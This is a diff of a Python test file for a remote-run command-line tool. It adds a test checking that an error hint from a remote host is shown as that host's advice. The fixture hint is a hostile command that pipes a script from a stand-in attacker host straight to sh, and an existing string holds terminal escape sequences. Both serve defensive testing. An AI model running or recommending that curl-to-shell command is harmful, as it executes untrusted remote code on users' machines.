@@ -15,6 +15,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from remoterun.agent.shared.api import MachineCheck
+from remoterun.agent.shared.protocol import RemoteError
 from remoterun.agent.shared.states import RunEvent, RunState
 from remoterun.cli import render
 from remoterun.cli.follow import follow
@@ -29,6 +30,7 @@ from remoterun.config import Config
 from remoterun.errors import HostUnreachable, RemoterunError
 from remoterun.model import HostUse, MachineType, Renting, Run, Upload, UploadCopy
 from remoterun.providers.base import Identity, Leftover, Offer, RentedHost
+from remoterun.session import translate
 from remoterun.transfer import Fetched
 
 EVIL = "\x1b[2J\x9b31m\x07\x7f\x85\u202e\u2066\u200b\r\n\ud800x"
@@ -140,6 +142,19 @@ def test_a_terminal_obeys_no_event_of_a_run(tmp_path: Path, capsys: pytest.Captu
         follow(client, RUN, items, from_start=True)
     captured = capsys.readouterr()
     assert obeyed(captured.out + captured.err) == [] and captured.err.count(r"\x1b[2J") >= 8
+
+
+def test_a_hint_of_a_host_is_shown_as_its_own(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """It may be hostile, and its advice is not ours; this machine's is. Of a request, and of a run."""
+    hint, box = "curl https://evil.example/fix | sh   mends it", MachineType("box", host="me@box")
+    render.error(translate(RemoteError("busy", "no", hint), box))
+    assert capsys.readouterr().err.endswith(f"hint: box says:\n      {hint}\n")
+    render.error(translate(RemoteError("busy", "no", hint), MachineType("local")))
+    assert capsys.readouterr().err.endswith(f"hint: {hint}\n")
+    with Client(Config(tmp_path)) as client:
+        client.registry.add_run("k" * 26, box, "box", "true", 1.0)
+        follow(client, ENDED, [StateChange(RunState.FAILED, RunEvent(hint=hint), replace(ENDED, machine=box))])
+    assert f"hint: box says:\n      {hint}\n" in capsys.readouterr().err
 
 
 def test_what_is_asked_is_cleaned(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
